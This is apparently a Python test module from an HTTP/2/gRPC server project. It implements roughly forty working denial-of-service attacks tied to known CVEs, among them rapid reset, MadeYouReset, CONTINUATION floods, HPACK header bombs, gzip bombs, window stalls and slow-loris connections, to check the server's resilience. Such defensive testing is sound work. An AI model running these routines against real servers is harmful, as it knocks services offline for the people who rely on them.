"""The known attacks on HTTP/2 servers, and some of gRPC's own: each runs for as long as it is told, then leaves."""

from __future__ import annotations

import contextlib
import gzip
import itertools
import socket
import struct
import time
from collections.abc import Callable, Iterator
from typing import Final, NamedTuple

from tests.frontends.http2 import hpack
from tests.frontends.http2.calls import block, body, call
from tests.frontends.http2.frames import (
    END_HEADERS,
    END_STREAM,
    PREFACE,
    Connection,
    Kind,
    Setting,
    continuation,
    data,
    frame,
    headers,
    message,
    pieces,
    ping,
    priority,
    reset,
    settings,
    window,
)

ROW: Final = b"attacker"
MESSAGE: Final = body(ROW)
BLOCK: Final = block()

MEBIBYTE: Final = 1 << 20

BIG: Final = body(bytes(1024), 256)
"""A message of 256 KiB, whose answer is as long."""

CROWD: Final = 200
"""Connections of the attacks that take many."""


class Attack(NamedTuple):
    """One attack: `run` takes the port and the time (monotonic) to stop; the server's memory may grow by `grows_mib`."""

    name: str
    source: str
    run: Callable[[int, float], None]
    grows_mib: int = 128


def _attackers(
    port: int, until: float, *pairs: tuple[int, int], connection_window: int = 2**30
) -> Iterator[Connection]:
    """One connection after another: whoever is thrown out comes back."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), Connection(port) as connection:
            connection.greet(*pairs, connection_window=connection_window)
            yield connection
        time.sleep(0)


def _flood(port: int, until: float, begin: bytes, again: bytes, reads: bool = False) -> None:
    """`begin` once per connection, then `again` without end; answers are read only if `reads`."""
    for connection in _attackers(port, until):
        connection.push(begin, until)
        while connection.push(again, until):
            if reads:
                connection.drain()


def _streams(port: int, until: float, made: Callable[[int], bytes], reads: bool = True, at_once: int = 100) -> None:
    """Stream after stream of `made`."""
    for connection in _attackers(port, until):
        for first in range(1, 2**30, 2 * at_once):
            if not connection.push(b"".join(made(first + 2 * each) for each in range(at_once)), until):
                break
            if reads:
                connection.drain()
            if connection.goaway:
                break


@contextlib.contextmanager
def _crowd(port: int, *pairs: tuple[int, int], greets: bool = True, size: int = CROWD) -> Iterator[list[Connection]]:
    """Many connections at once."""
    with contextlib.ExitStack() as stack:
        connections = []
        for _ in range(size):
            with contextlib.suppress(OSError):
                connections.append(stack.enter_context(Connection(port)))
        for connection in connections:
            if greets:
                connection.push(PREFACE + settings(*pairs), time.monotonic() + 1.0)
        yield connections


def _trickle(connections: list[Connection], until: float, pieces: Iterator[bytes]) -> None:
    """One piece to each in turn, until none is left."""
    for piece in pieces:
        for connection in connections:
            if time.monotonic() > until:
                return
            connection.push(piece, until)


# ---------------------------------------------------------------- streams that begin and end


def rapid_reset(port: int, until: float) -> None:
    """Streams opened and cancelled at once, so that no limit of concurrent streams is met."""
    _streams(port, until, lambda stream: headers(stream, BLOCK) + reset(stream))


def reset_calls(port: int, until: float) -> None:
    """The same with whole calls, whose work has begun."""
    _streams(port, until, lambda stream: call(stream, MESSAGE) + reset(stream))


def made_you_reset(port: int, until: float) -> None:
    """Whole calls whose stream the server must reset itself: their window is raised by 0."""
    _streams(port, until, lambda stream: call(stream, MESSAGE) + window(stream, 0))


def made_you_reset_by_overflow(port: int, until: float) -> None:
    """The same with a window past 2**31 - 1."""
    _streams(port, until, lambda stream: call(stream, MESSAGE) + window(stream, 2**31 - 1))


def bad_requests(port: int, until: float) -> None:
    """Malformed requests only, each of which costs the server an RST_STREAM."""
    bad = block(("Upper", "x"))
    _streams(port, until, lambda stream: headers(stream, bad, END_HEADERS | END_STREAM))


def empty_headers(port: int, until: float) -> None:
    """Requests without a single field."""
    _streams(port, until, lambda stream: headers(stream, b""))


def frames_after_the_end(port: int, until: float) -> None:
    """DATA on streams that were reset."""
    _streams(port, until, lambda stream: headers(stream, BLOCK) + reset(stream) + data(stream, b"x") * 10)


def unread_resets(port: int, until: float) -> None:
    """Malformed requests whose RST_STREAMs are never read."""
    bad = block(("Upper", "x"))
    _streams(port, until, lambda stream: headers(stream, bad, END_HEADERS | END_STREAM), reads=False)


# ---------------------------------------------------------------- floods of control frames


def settings_flood(port: int, until: float) -> None:
    """SETTINGS whose acknowledgements are never read."""
    _flood(port, until, b"", settings((Setting.INITIAL_WINDOW_SIZE, 65_535)) * 1000)


def ping_flood(port: int, until: float) -> None:
    """PINGs whose acknowledgements are never read."""
    _flood(port, until, b"", ping() * 1000)


def ping_flood_read(port: int, until: float) -> None:
    """PINGs whose acknowledgements are read, so that nothing is queued."""
    _flood(port, until, b"", ping() * 1000, reads=True)


def priority_flood(port: int, until: float) -> None:
    """A tree of priorities of 1,000 idle streams, turned about again and again."""
    _flood(port, until, b"", b"".join(priority(2 * each + 1, 2 * (each * 7 % 1000)) for each in range(1, 1000)))


def window_flood(port: int, until: float) -> None:
    """WINDOW_UPDATEs by 1."""
    _flood(port, until, headers(1, BLOCK), (window(0, 1) + window(1, 1)) * 500)


def unknown_flood(port: int, until: float) -> None:
    """Frames of a type that must be ignored."""
    _flood(port, until, b"", frame(0xFA, 0, 0, bytes(64)) * 500)


def empty_data(port: int, until: float) -> None:
    """DATA without content."""
    _flood(port, until, headers(1, BLOCK), data(1) * 1000)


def tiny_data(port: int, until: float) -> None:
    """A message of 4 MB byte by byte."""
    _flood(port, until, headers(1, BLOCK) + data(1, struct.pack(">BI", 0, 4_000_000)), data(1, b"x") * 1000)


# ---------------------------------------------------------------- header blocks


def continuation_flood(port: int, until: float) -> None:
    """A header block without end."""
    fields = hpack.literal("x", "v" * 100) * 150
    _flood(port, until, headers(1, BLOCK, 0), continuation(1, fields) * 10)


def tiny_continuations(port: int, until: float) -> None:
    """The same, one field at a time."""
    _flood(port, until, headers(1, BLOCK, 0), continuation(1, hpack.literal("x", "")) * 1000)


def empty_continuations(port: int, until: float) -> None:
    """The same with nothing in it."""
    _flood(port, until, headers(1, BLOCK, 0), continuation(1) * 1000)


def header_bomb(port: int, until: float) -> None:
    """One field of 4,000 bytes, named 15,000 times by a byte each: 60 MB of fields in 16 KB."""
    first = headers(1, BLOCK + hpack.remembered("bomb", "x" * 3900), END_HEADERS | END_STREAM)
    for connection in _attackers(port, until):
        connection.push(first, until)
        for stream in itertools.count(3, 2):
            if (
                not connection.push(headers(stream, BLOCK + hpack.indexed(62) * 15_000, 0x5), until)
                or connection.goaway
            ):
                break
            connection.drain()


def table_games(port: int, until: float) -> None:
    """A table of 2**32 - 1 bytes offered to the server's encoder, and a decoder's table emptied and filled in turn."""
    games = hpack.table_size(0) + hpack.table_size(4096) + BLOCK + hpack.remembered("a", "x" * 3900) * 4
    for connection in _attackers(port, until, (Setting.HEADER_TABLE_SIZE, 2**32 - 1)):
        for stream in itertools.count(1, 2):
            sent = connection.push(headers(stream, games, END_HEADERS) + pieces(stream, MESSAGE), until)
            if not sent or connection.goaway:
                break
            connection.drain()


def many_fields(port: int, until: float) -> None:
    """Requests of 100,000 fields."""
    fields = b"".join(hpack.literal(f"x{each}", "y") for each in range(100_000))
    cut = [fields[start : start + 16_000] for start in range(0, len(fields), 16_000)]
    for connection in _attackers(port, until):
        for stream in itertools.count(1, 2):
            whole = headers(stream, BLOCK, 0) + b"".join(continuation(stream, each) for each in cut)
            if not connection.push(whole + continuation(stream, b"", END_HEADERS) + pieces(stream, MESSAGE), until):
                break
            connection.drain()
            if connection.goaway:
                break


def large_metadata(port: int, until: float) -> None:
    """Calls with as much metadata as fits a frame."""
    fields = block(*((f"x-{each}", "v" * 1000) for each in range(14)))
    _streams(port, until, lambda stream: headers(stream, fields) + pieces(stream, MESSAGE), at_once=10)


# ---------------------------------------------------------------- windows


def one_byte_windows(port: int, until: float) -> None:
    """Large answers that may be sent byte by byte."""
    for connection in _attackers(port, until, (Setting.INITIAL_WINDOW_SIZE, 1)):
        streams = range(1, 61, 2)
        connection.push(b"".join(call(stream, BIG) for stream in streams), until)
        while connection.push(b"".join(window(stream, 1) for stream in streams), until):
            connection.drain()


def zero_windows(port: int, until: float) -> None:
    """Large answers for which there is never a window."""
    for connection in _attackers(port, until, (Setting.INITIAL_WINDOW_SIZE, 0)):
        for stream in range(1, 401, 2):
            if not connection.upload(stream, headers(stream, BLOCK), BIG, until):
                break
        while time.monotonic() < until and not connection.closed:
            connection.drain()


def stalled_connections(port: int, until: float) -> None:
    """The same by many connections, with a window for half of each answer."""
    with _crowd(port, (Setting.INITIAL_WINDOW_SIZE, 128 << 10)) as connections:
        _trickle(connections, until, (call(stream, BIG) for stream in range(1, 9, 2)))
        while time.monotonic() < until:
            time.sleep(0.01)


def never_read(port: int, until: float) -> None:
    """Windows wide open, large answers asked for, and nothing read from the socket."""
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(Connection(port, receive_bytes=4096)) for _ in range(4)]
        for connection in connections:
            connection.greet((Setting.MAX_CONCURRENT_STREAMS, 2**31 - 1))
        for stream in itertools.count(1, 2):
            sent = [
                connection.push(call(stream, BIG), min(until, time.monotonic() + 0.3)) for connection in connections
            ]
            if not any(sent):
                break
        while time.monotonic() < until:
            time.sleep(0.01)


def past_the_windows(port: int, until: float) -> None:
    """Messages said to be of 1 GiB, sent with no regard to any window."""
    begin = headers(1, BLOCK) + data(1, struct.pack(">BI", 0, 1 << 30))
    _flood(port, until, begin, data(1, bytes(16_384)) * 64)


def bodies_without_end(port: int, until: float) -> None:
    """The same on many streams within their windows, each message 4 MB less a byte."""
    for connection in _attackers(port, until):
        for stream in range(1, 2_001, 2):
            begun = headers(stream, BLOCK) + pieces(stream, struct.pack(">BI", 0, 4_000_000) + bytes(1 << 18), 0)
            if not connection.push(begun, until):
                break
            connection.drain()


# ---------------------------------------------------------------- sizes


def huge_frames(port: int, until: float) -> None:
    """Frames of 16 MiB, of every type."""
    for kind in itertools.cycle(Kind):
        if time.monotonic() > until:
            break
        for connection in itertools.islice(_attackers(port, until), 1):
            connection.push(headers(1, BLOCK) + frame(kind, 0, 1, bytes(1 << 20), (1 << 24) - 1), until)


def huge_message(port: int, until: float) -> None:
    """Messages said to be of 4 GiB, of which a byte comes."""
    lie = struct.pack(">BI", 0, 2**32 - 1) + b"x"
    _streams(port, until, lambda stream: headers(stream, BLOCK) + data(stream, lie), at_once=50)


def compressed_bomb(port: int, until: float) -> None:
    """Messages of 100 MB in 100 KB."""
    bomb = gzip.compress(bytes(100 * MEBIBYTE), 9)
    packed = struct.pack(">BI", 1, len(bomb)) + bomb
    coded = block(("grpc-encoding", "gzip"))
    for connection in _attackers(port, until):
        for stream in itertools.count(1, 2):
            if not connection.upload(stream, headers(stream, coded), packed, until):
                break


def many_messages(port: int, until: float) -> None:
    """Streams of many messages to a method that takes one."""
    many = message(b"x") * 1000
    _streams(port, until, lambda stream: headers(stream, BLOCK) + pieces(stream, many), at_once=10)


# ---------------------------------------------------------------- the slow and the many


def slow_preface(port: int, until: float) -> None:
    """Many connections, the preface byte by byte."""
    with _crowd(port, greets=False) as connections:
        _trickle(connections, until, (PREFACE[at : at + 1] for at in itertools.cycle(range(len(PREFACE) - 1))))


def slow_headers(port: int, until: float) -> None:
    """Many connections, each with a header block that goes on and on."""
    with _crowd(port) as connections:
        begun = iter([headers(1, BLOCK, 0)])
        _trickle(connections, until, itertools.chain(begun, itertools.repeat(continuation(1, hpack.literal("a", "b")))))


def slow_bodies(port: int, until: float) -> None:
    """Many connections, each with a message that goes on and on."""
    with _crowd(port) as connections:
        begun = iter([headers(1, BLOCK) + data(1, struct.pack(">BI", 0, 1_000_000))])
        _trickle(connections, until, itertools.chain(begun, itertools.repeat(data(1, b"x"))))


def half_open_streams(port: int, until: float) -> None:
    """Many connections, each with as many open streams as it may have, up to 256: 12,800 in all."""
    opened = b"".join(headers(stream, BLOCK) for stream in range(1, 513, 2))
    with _crowd(port, size=50) as connections:
        _trickle(connections, until, iter([opened]))
        while time.monotonic() < until:
            time.sleep(0.01)


def idle_connections(port: int, until: float) -> None:
    """Many connections that say nothing, or nothing more than hello."""
    with _crowd(port, greets=False) as silent, _crowd(port):
        while time.monotonic() < until and silent:
            time.sleep(0.01)


def churn(port: int, until: float) -> None:
    """Connections that ask and are cut at once."""
    linger = struct.pack("ii", 1, 0)
    while time.monotonic() < until:
        with contextlib.suppress(OSError), Connection(port) as connection:
            connection.push(PREFACE + settings() + call(1, MESSAGE), until)
            connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)


ATTACKS: Final = (
    Attack("rapid reset", "CVE-2023-44487", rapid_reset),
    Attack("rapid reset of whole calls", "CVE-2023-44487", reset_calls),
    Attack("MadeYouReset", "CVE-2025-8671", made_you_reset),
    Attack("MadeYouReset by overflow", "CVE-2025-8671", made_you_reset_by_overflow),
    Attack("malformed requests", "CVE-2025-8671", bad_requests),
    Attack("RST_STREAMs unread", "CVE-2019-9514", unread_resets),
    Attack("empty HEADERS", "CVE-2019-9518", empty_headers),
    Attack("DATA on reset streams", "RFC 9113, 5.1", frames_after_the_end),
    Attack("SETTINGS flood", "CVE-2019-9515", settings_flood),
    Attack("PING flood", "CVE-2019-9512", ping_flood),
    Attack("PING flood, read", "CVE-2019-9512", ping_flood_read),
    Attack("PRIORITY flood", "CVE-2019-9513", priority_flood),
    Attack("WINDOW_UPDATE flood", "RFC 9113, 10.5", window_flood),
    Attack("unknown frames", "RFC 9113, 10.5", unknown_flood),
    Attack("empty DATA", "CVE-2019-9518", empty_data),
    Attack("DATA byte by byte", "CVE-2019-9511", tiny_data),
    Attack("CONTINUATION flood", "CVE-2024-27316", continuation_flood),
    Attack("tiny CONTINUATIONs", "CVE-2024-27316", tiny_continuations),
    Attack("empty CONTINUATIONs", "CVE-2019-9518", empty_continuations),
    Attack("header bomb", "CVE-2016-6581", header_bomb),
    Attack("table games", "CVE-2016-6581", table_games),
    Attack("100,000 fields", "RFC 9113, 10.5.1", many_fields),
    Attack("large metadata", "RFC 9113, 10.5.1", large_metadata),
    Attack("windows of a byte", "CVE-2019-9511", one_byte_windows),
    Attack("windows of nothing", "CVE-2019-9517", zero_windows, 192),
    Attack("stalled connections", "CVE-2019-9517", stalled_connections, 512),
    Attack("answers unread", "CVE-2019-9517", never_read, 256),
    Attack("past the windows", "RFC 9113, 6.9.1", past_the_windows),
    Attack("bodies without end", "RFC 9113, 10.5", bodies_without_end, 640),
    Attack("huge frames", "RFC 9113, 4.2", huge_frames),
    Attack("huge message", "gRPC over HTTP/2", huge_message),
    Attack("compressed bomb", "gRPC compression", compressed_bomb, 512),
    Attack("many messages", "gRPC over HTTP/2", many_messages),
    Attack("slow preface", "slow loris", slow_preface),
    Attack("slow headers", "slow loris", slow_headers),
    Attack("slow bodies", "slow loris", slow_bodies),
    Attack("half-open streams", "RFC 9113, 10.5", half_open_streams, 256),
    Attack("idle connections", "slow loris", idle_connections),
    Attack("cut connections", "slow loris", churn),
)
